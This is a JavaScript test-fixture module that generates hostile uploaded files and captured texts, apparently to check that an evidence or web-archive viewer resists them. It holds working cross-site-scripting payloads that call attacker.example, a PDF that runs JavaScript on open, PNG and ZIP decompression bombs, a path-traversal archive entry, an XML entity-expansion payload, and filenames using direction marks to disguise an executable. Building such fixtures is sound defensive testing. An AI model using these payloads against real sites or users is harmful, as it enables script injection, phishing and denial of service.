// Evidence that attacks whoever looks at it. Each script would set `harmed` and ask another host.
import { crc32, deflateRawSync, deflateSync } from "node:zlib";

const HARM = "window.harmed=1;document.title='HARMED';fetch('https://attacker.example/');alert(1)";
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="${HARM}"><script>${HARM}</script><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="https://attacker.example/x.png" onerror="${HARM}"/></body></foreignObject><image href="https://attacker.example/y.png"/></svg>`;
const HTML = `<!doctype html><title>x</title><base href="https://attacker.example/"><meta http-equiv="refresh" content="0;url=https://attacker.example/"><link rel="stylesheet" href="x.css"><script>${HARM}</script><img src=x onerror="${HARM}"><iframe src="https://attacker.example/"></iframe><form action="https://attacker.example/"><button>Sign in</button></form>`;

/** A PDF that runs a script when it opens, as bytes. */
function pdf(before = "") {
  const parts = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); app.launchURL\\('https://attacker.example/'\\);) >> >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /AA << /O << /S /URI /URI (https://attacker.example/) >> >> >>",
  ];
  let text = `%PDF-1.7\n${before}`;
  const places = parts.map((part, n) => {
    const place = text.length;
    text += `${n + 1} 0 obj\n${part}\nendobj\n`;
    return place;
  });
  const table = text.length;
  text += `xref\n0 4\n0000000000 65535 f \n${places.map((place) => `${String(place).padStart(10, "0")} 00000 n \n`).join("")}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${table}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

/** A PNG of one bit a pixel: `rows` of them follow the header, which may promise more. */
function png(width, height, rows) {
  const chunk = (type, data) => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const ends = Buffer.alloc(8);
    ends.writeUInt32BE(crc32(body), 4);
    ends.writeUInt32BE(data.length, 0);
    return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head[8] = 1;
  const pixels = deflateSync(Buffer.alloc(rows * (1 + Math.ceil(width / 8))), { level: 9 });
  return Buffer.concat([Buffer.from("89504e470d0a1a0a", "hex"), chunk("IHDR", head), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);
}

/** A ZIP with one entry of zeros, which says a size of its own. */
function zip(name, size) {
  const small = deflateRawSync(Buffer.alloc(size), { level: 9 });
  const named = Buffer.from(name);
  const fields = (mark, at, length, more) => {
    const head = Buffer.alloc(length);
    head.writeUInt32LE(mark, 0);
    head.writeUInt16LE(8, at + 4);
    head.writeUInt32LE(small.length, at + 14);
    head.writeUInt32LE(0xfffffff0, at + 18);
    head.writeUInt16LE(named.length, at + 22);
    more?.(head);
    return head;
  };
  const local = Buffer.concat([fields(0x04034b50, 4, 30), named, small]);
  const central = Buffer.concat([fields(0x02014b50, 6, 46), named]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** Files: a label for the pictures, the name and type that the sender gives, the bytes. */
export function files() {
  const text = (label, name, type, body, role) => ({ label, name, type, bytes: Buffer.from(body), role });
  const gif = Buffer.concat([Buffer.from("GIF89a/*"), Buffer.alloc(2), Buffer.from("\x00\x00\x00*/=1;" + HARM + ";//;")]);
  return [
    text("svg", "drawing.svg", "image/svg+xml", SVG),
    text("svg-as-png", "drawing.png", "image/png", SVG),
    text("html", "page.html", "text/html", HTML, "archive"),
    text("html-as-jpeg", "page.jpg", "image/jpeg", HTML),
    text("xhtml", "page.xhtml", "application/xhtml+xml", `<html xmlns="http://www.w3.org/1999/xhtml"><script>${HARM}</script></html>`),
    text("mhtml", "page.mhtml", "multipart/related", `From: <Saved by x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: https://attacker.example/\r\n\r\n${HTML}\r\n--b--\r\n`, "archive"),
    text("script", "app.js", "text/javascript", HARM),
    text("style", "app.css", "text/css", "@import url(https://attacker.example/x.css); body{display:none}"),
    text("xml", "feed.xml", "application/xml", `<?xml version="1.0"?><?xml-stylesheet href="https://attacker.example/x.xsl"?><!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;">]><a>&c;<script xmlns="http://www.w3.org/1999/xhtml">${HARM}</script></a>`),
    { label: "pdf-script", name: "letter.pdf", type: "application/pdf", bytes: pdf() },
    { label: "pdf-html", name: "letter.pdf.html", type: "text/html", bytes: pdf(`<html><script>${HARM}</script>\n`) },
    { label: "gif-script", name: "loop.gif", type: "image/gif", bytes: gif },
    { label: "png-giant", name: "map.png", type: "image/png", bytes: png(65000, 65000, 4) },
    { label: "png-bomb", name: "scan.png", type: "image/png", bytes: png(9000, 9000, 9000), role: "screenshot" },
    { label: "wacz-bomb", name: "crawl.wacz", type: "application/wacz", bytes: zip("../../archive/data.warc", 64 << 20), role: "archive" },
    text("name-markup", `"><img src=x onerror=alert(1)>'.txt`, "text/plain", "named with markup"),
    text("name-lines", "one\r\ntwo\tthree.txt", "text/plain", "named with line ends"),
    text("name-turned", "photo\u202egnp.exe\u2066\u200b.txt", "text/plain", "named with direction marks"),
    text("name-long", `${"n".repeat(180)}.txt`, "text/plain", "a long name"),
    text("name-none", ".", "application/x-unknown; x=\"<b>\"", ""),
  ];
}

/** Captures whose texts attack. */
export function texts() {
  const markup = `</textarea></script><script>${HARM}</script><img src=x onerror="${HARM}">{{ 7*7 }}\${7*7}`;
  const turned = `${"\u202e\u2067שלום \u200b\u200d\ufeff abc ".repeat(900)}`.slice(0, 20000);
  return [
    { label: "text-markup", text: markup, url: "https://example.com/\"><script>alert(1)</script>", account: { handle: markup.slice(0, 180) }, platform_time_text: markup.slice(0, 150) },
    { label: "text-turned", text: turned, account: { handle: "\u202e\u2066k_revir@\u200b" } },
    { label: "text-wide", text: "W".repeat(20000), url: `https://example.com/${"w".repeat(1500)}` },
    { label: "text-marks", text: `Z${"\u0353\u0321\u0336\u0489".repeat(500)}algo`, account: { handle: `z${"\u0489".repeat(90)}` } },
    { label: "url-javascript", url: `javascript:${HARM}`, text: "an address that is a script" },
    { label: "url-data", url: `data:text/html,<script>${HARM}</script>`, text: "an address that is a page" },
    { label: "url-turned", url: "https://example.com/\u202emoc.elpmaxe", text: "an address that reads backwards" },
  ];
}
